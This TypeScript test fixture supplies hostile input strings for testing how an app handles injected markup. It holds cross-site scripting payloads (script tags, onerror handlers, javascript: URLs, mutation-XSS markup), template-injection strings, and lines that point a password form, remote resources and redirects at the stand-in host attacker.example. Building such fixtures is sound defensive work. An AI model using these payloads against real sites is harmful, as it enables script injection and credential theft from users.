import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/** Set on `window` by every hostile script that runs. */
export const marker = '__ran'
export const payload = `window.${marker}=1`
const attackerUrl = 'https://attacker.example'

/** Known ways to inject scripts, foreign pages and broken markup. */
const builtInStrings: readonly string[] = [
  `<script>${payload}</script>`,
  `</script><script>${payload}//`,
  `</title></textarea></style><script>${payload}</script>`,
  `<!--<script>${payload}</script>`,
  `"><img src=x onerror="${payload}">`,
  `' onmouseover='${payload}' x='`,
  `<svg/onload=${payload}><animate onbegin=${payload} attributeName=x>`,
  `<a href="javascript:${payload}">fees</a>`,
  `<a href="&#106;ava\tscript:${payload}" style="position:fixed;inset:0">fees</a>`.replace(
    '\t',
    '&#9;',
  ),
  `javascript:${payload}`,
  `data:text/html,<script>opener.${payload}</script>`,
  `<iframe srcdoc="<script>parent.${payload}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
  `<form action="${attackerUrl}/"><input name=password autofocus onfocus=${payload}></form>`,
  `<img src="${attackerUrl}/pixel.png"><video src="${attackerUrl}/video.mp4" autoplay></video>`,
  `<style>@import "${attackerUrl}/all.css"; body{background:url(${attackerUrl}/pixel.png)}</style>`,
  `<base href="${attackerUrl}/"><meta http-equiv="refresh" content="0;url=${attackerUrl}/">`,
  `{{constructor.constructor('${payload}')()}}`,
  `\${${payload}} #{7*7} <%= 7*7 %> %s %n $& $1`,
  'null \\ \\u003cscript\\u003e \u2028 \u2029 \u200f &lt;script&gt;',
  `क्षि${'\u0345'.repeat(20)} ${'😀'.repeat(20)} ${'W'.repeat(40)}`,
]

const folder = join(process.env.SAMPLES_DIR ?? '', 'naughty')

/** Whether to test every string of SAMPLES_DIR in every field. It takes hours, so only on request. */
export const testsAllStrings =
  process.env.ALL_STRINGS === '1' && process.env.SAMPLES_DIR !== undefined && existsSync(folder)

const read = (name: string) => readFileSync(join(folder, name), 'utf8')

/** The built-in strings and, with `ALL_STRINGS=1`, the lists in `SAMPLES_DIR/naughty`. */
export const hostileStrings: readonly string[] = testsAllStrings
  ? [...builtInStrings, ...JSON.parse(read('strings.json')), ...read('xss.txt').split('\n')]
  : builtInStrings
